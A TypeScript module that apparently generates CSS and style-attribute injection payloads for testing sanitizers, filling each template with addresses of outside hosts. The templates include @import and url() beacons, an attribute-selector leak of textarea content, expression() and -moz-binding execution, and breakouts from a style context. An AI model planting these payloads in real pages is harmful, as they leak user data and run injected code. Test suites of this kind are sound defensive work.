import { FOREIGN_ADDRESSES } from './addresses.ts';
import { combine } from './combine.ts';
import type { Payload } from './payload.ts';

const CARRIERS: readonly string[] = [
  '<style>@import "«url»";</style>',
  '<style>@import url(«url»);</style>',
  '<style>*{background:url("«url»")}</style>',
  '<style>@font-face{font-family:x;src:url(«url»)}*{font-family:x}</style>',
  '<style>textarea[value^=a]{background:url(«url»)}</style>',
  '<style>:host{cursor:url(«url»),auto;list-style:url(«url»)}</style>',
  '<p style="background:url(«url»)">x</p>',
  '<p style="background-image:image-set(\'«url»\' 1x)">x</p>',
  '<p style="behavior:url(«url»);-moz-binding:url(«url»)">x</p>',
  '<p style="width:expression(__hit(«id»))" title="«url»">x</p>',
  '<p style="--x:url(«url»);content:var(--x)">x</p>',
  '<svg style="filter:url(«url»#x);mask:url(«url»)"><rect fill="url(«url»#x)"/></svg>',
  'url(«url»)',
  'red;background:url(«url»)',
  '} * { background: url(«url») } {',
  '@import "«url»";',
];

export const STYLES: readonly Payload[] = combine({
  kind: 'style',
  carriers: CARRIERS,
  slot: '«url»',
  fillings: FOREIGN_ADDRESSES.slice(0, 12),
  each: 4,
});
